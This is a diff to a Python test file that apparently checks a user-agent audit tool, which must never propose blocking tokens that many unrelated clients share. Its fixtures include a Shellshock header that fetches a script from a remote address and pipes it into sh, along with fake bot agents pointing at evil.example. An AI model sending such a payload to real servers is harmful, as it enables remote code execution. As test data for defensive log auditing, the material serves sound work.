@@ -202,6 +202,7 @@ PROSE = (
 )
 SHELLSHOCK = r"() { :; }; /bin/bash -c \x22wget http://198.51.100.7/x.sh -O- | sh\x22"  # as nginx logs it
 VERSIONED = "Mozilla/5.0 zgrab/0.x v1.1.0 (compatible; scanner)"
+HEADLESS = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36"
 
 
 @pytest.mark.parametrize(
@@ -215,6 +216,10 @@ VERSIONED = "Mozilla/5.0 zgrab/0.x v1.1.0 (compatible; scanner)"
         # product names of agents many unrelated clients share (HTTP libraries, app runtimes)
         ("python-requests", "python-requests/2.31.0"), ("go-http-client", "Go-http-client/1.1"),
         ("okhttp", "okhttp/4.9.2"), ("cfnetwork", "BotApp/3.1 CFNetwork/1404.0.5 Darwin/22.3.0"),
+        # an automated browser (blocked by address only), names of people's agents a bot took
+        ("headlesschrome", HEADLESS), ("weixin", "Weixin/1.0 (+http://evil.example/bot)"),
+        ("iphone16", "iPhone16/1.0 (+http://evil.example/bot)"),
+        ("evil.example", "Weixin/1.0 (+http://evil.example/bot)"),
     ],
 )  # fmt: skip
 def test_audit_tokens_are_never_proposed(token: str, agent: str) -> None:
